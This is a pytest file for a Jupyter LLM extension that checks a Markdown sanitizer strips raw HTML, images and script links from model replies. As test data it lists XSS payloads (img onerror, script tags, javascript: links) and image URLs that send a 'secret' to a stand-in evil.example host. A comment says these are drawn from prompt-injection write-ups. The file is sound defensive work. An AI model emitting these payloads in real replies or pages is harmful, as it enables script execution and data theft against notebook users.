"""Model text shown as Markdown: no raw HTML, no fetched images, no script links; code and math kept."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from xllm_jupyter.magics.render import Reply
from xllm_jupyter.notebook.safe_markdown import neutral_markdown
from xllm_jupyter.widgets.markdown import markdown_html

# attacks seen in prompt-injection write-ups: script through HTML, exfiltration through images
ATTACKS = [
    'hello <img src=x onerror="window.__pwned=1"> there',
    "![i](https://evil.example/?d=secret)",
    "![r][ref]\n\n[ref]: https://evil.example/ref.png",
    "<script>window.__pwned=1</script>",
    "<div\nonmouseover=x>multi-line tag</div>",
    "[click](javascript:alert(1)) [b](JaVa\tScRiPt:alert(1)) [c](java\\script:alert(1)) [d](javascript&#58;alert(1))",
    "[ref link][j]\n\n[j]: javascript:alert(1)",
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)> ` |",
    "`unclosed <img src=x onerror=alert(1)>",
    "$ <img src=x onerror=alert(1)> $ and $$<svg onload=alert(1)>$$",
    "- item\n ```\n <img src=x onerror=alert(1)>\n ```",
    "> quote\n> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "&lt;img src=x onerror=alert(1)&gt; &#60;img src=x&#62;",
    "<https://ok.example/a> <javascript:alert(1)>",
]
# links a prompt injection could plant: JupyterLab opens a relative target as a file of the Jupyter server
RELATIVE_LINKS = (
    "[a](../../api/contents/secret) [b](files/secret.txt) [c](/lab/tree/secret.ipynb) [d](#x) "
    "[e](//evil.example/x) [f](file:///etc/passwd) [g](<../x y>) [h](data:text/html,hi) ![i](../../files/s.png) "
    "[j][r] [k] $a [b$](../x) [[n]](../n) [o](https://ok.example/ok) [p](mailto:p@ok.example)\n\n"
    "[r]: ../../api/contents/secret\n[k]: files/k.txt\n"
)
#: everything in a reply that a browser fetches on sight, each aimed at the page's own server outside the app
#: (behind jupyter-server-proxy, the user's Jupyter server or hub: ``/hub/logout`` is a GET)
AUTOLOAD = """![md](/hub/logout?md) ![rel](../../api/rel)

<img src="/hub/logout?img"> <img srcset="/hub/logout?srcset 1x"> <img src="{origin}/hub/logout?abs">
<picture><source srcset="/hub/logout?picture"><img alt="p"></picture>
<video poster="/hub/logout?poster" src="/hub/logout?video"></video> <audio src="/hub/logout?audio"></audio>
<video><source src="/hub/logout?source"></video>
<div style="background-image: url('/hub/logout?style')">s</div>
<style>.x {{ background: url('/hub/logout?sheet') }}</style><span class="x">x</span>
<link rel="stylesheet" href="/hub/logout?link"> <link rel="prefetch" href="/hub/logout?prefetch">
"""
WEB_HREF = re.compile(r"(https://ok\.example/|mailto:p@ok\.example$)")


def rendered(markdown: str) -> str:
    """HTML from a CommonMark parser that passes raw HTML through, as JupyterLab's does."""
    return MarkdownIt("commonmark", {"html": True}).enable(["table"]).render(markdown)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_tag_image_or_script_link_survives(attack):
    html = rendered(neutral_markdown(attack))
    tags = {t.lower() for t in re.findall(r"<([a-zA-Z][\w-]*)", html)}
    assert tags <= {"p", "code", "a", "pre", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "blockquote", "em"}, html
    assert "<img" not in html and "onerror" not in re.sub(r">[^<]*<", "><", html)  # the word may stay as text
    for href in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"(https?://|mailto:)", href), href  # the web, never a script, data or a Jupyter file


def test_only_web_and_mail_links_stay_links_in_markdown_and_in_the_chat_widget():
    for html in (rendered(neutral_markdown(RELATIVE_LINKS)), markdown_html(RELATIVE_LINKS)):
        hrefs = re.findall(r'href="([^"]*)"', html)
        assert hrefs and all(WEB_HREF.match(h) for h in hrefs), hrefs
        assert len(hrefs) == 2, hrefs  # [o] and [p]
        assert "api/contents/secret" in html and "files/secret.txt" in html  # still there, as text


def test_brackets_in_math_and_text_stay_readable():
    out = neutral_markdown("$\\sqrt[3]{x}$ and [1, 2] and [see](https://ok.example/a_b)")
    html = rendered(out)
    assert "$\\sqrt[3]{x}$" in out and "[1, 2]" in html
    assert '<a href="https://ok.example/a_b">see</a>' in html


def test_html_is_escaped_and_images_become_links():
    out = neutral_markdown('hi <img src=x onerror="y"> ![cat](https://x.example/cat.png) R&D')
    assert "&lt;img src=x" in out and "<img" not in out
    html = rendered(out)
    assert '<a href="https://x.example/cat.png">cat</a>' in html  # the user may click it
    assert "R&amp;D" in html


def test_code_blocks_spans_and_math_are_kept():
    text = "Compare `a<b>` here:\n\n```python\nif a < b and c > d:\n    print('<ok>')\n```\n\nMath $a<b$ and $$\\sum_i x_i^2 & y$$ done."
    out = neutral_markdown(text)
    assert "```python\nif a < b and c > d:\n    print('<ok>')\n```" in out  # code verbatim: highlighted by JupyterLab
    assert "<code>a&#60;b&#62;</code>" in out  # shows a<b>, whoever parses it
    assert "$a\\lt b$" in out and "$$\\sum_i x_i^2 & y$$" in out  # MathJax reads \lt as <
    html = rendered(out)
    assert "<pre><code class=\"language-python\">if a &lt; b" in html


def test_a_fence_in_a_list_is_kept_as_code_and_mermaid_is_not_drawn():
    out = neutral_markdown("1. step\n   ```js\n   x = '<b>'\n   ```\n2. next\n\n```mermaid\ngraph TD; A-->B\n```")
    html = rendered(out)
    assert "<code class=\"language-js\">x = '&lt;b&gt;'" in html
    assert "language-mermaid" not in html and "language-text" in html


def test_script_schemes_are_broken_but_web_links_kept():
    out = neutral_markdown("[a](javascript:alert(1)) [b](https://ok.example/x?a=1&b=2) <https://ok.example/c>")
    html = rendered(out)
    assert "javascript:" not in html
    assert 'href="https://ok.example/x?a=1&amp;b=2"' in html and "https://ok.example/c" in html


def test_reply_markdown_is_neutralized_but_plain_text_is_not():
    text = 'x <img src=x onerror="y"> ![i](https://evil.example/i.png)'
    bundle = Reply("markdown", text)._repr_mimebundle_()
    assert bundle["text/plain"] == text
    assert "<img" not in bundle["text/markdown"] and "\\![i](https://evil.example/i.png)" in bundle["text/markdown"]


@pytest.mark.parametrize("fmt", ["code", "json"])
def test_code_and_json_formats_fence_the_whole_reply(fmt):
    text = "````\n<img src=x onerror=alert(1)>\n````" if fmt == "code" else '{"a": "<img src=x onerror=alert(1)>``````"}'
    html = rendered(Reply(fmt, text)._repr_mimebundle_()["text/markdown"])
    assert "<img" not in html and "&lt;img" in html and html.startswith("<pre><code")
    assert "language-mermaid" not in rendered(Reply("code", "```mermaid\ngraph TD; A\n```")._repr_mimebundle_()["text/markdown"])


def test_chat_widget_markdown_shows_images_as_links():
    html = markdown_html("![alt](https://evil.example/a.png) ![r][1] [j](javascript:alert(1)) <img src=x>\n\n[1]: https://evil.example/b.png")
    assert "<img" not in html
    assert 'href="https://evil.example/a.png"' in html and 'href="https://evil.example/b.png"' in html
    assert 'href="javascript' not in html and "&lt;img src=x&gt;" in html


#: JupyterLab's own math delimiters, as its math extractor finds them in the Markdown source before parsing it
#: (``\\[ \\]`` display, ``\\( \\)`` inline); MathJax then typesets them in the page
LAB_MATH_DELIMITER = re.compile(r"\\\\[()[\]]")


@pytest.mark.parametrize("text", [RELATIVE_LINKS, "see [1] and [2]", "\\[x\\] and \\(y\\)", "a\\ [b](../c) \\]", *ATTACKS])
def test_escaped_brackets_spell_no_jupyterlab_math_delimiter(text):
    """The ``\\[`` that defuses a link stays text: no ``\\\\[`` that JupyterLab would take for display math (which
    would show a formula, or swallow the text up to the next ``\\\\]``) unless the reply wrote one itself."""
    assert not LAB_MATH_DELIMITER.search(text)
    out = neutral_markdown(text)
    assert not LAB_MATH_DELIMITER.search(out), out
